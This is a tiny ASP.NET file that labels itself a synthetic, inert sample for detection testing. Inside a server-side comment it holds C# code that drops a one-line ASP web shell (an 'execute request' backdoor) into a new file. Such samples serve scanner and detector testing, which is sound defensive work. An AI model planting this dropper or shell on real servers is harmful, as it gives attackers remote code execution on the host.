<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% var w = new StreamWriter(Server.MapPath("x.asp")); w.Write("<%execute request(\"x\")%>"); w.Close(); %>
--%>
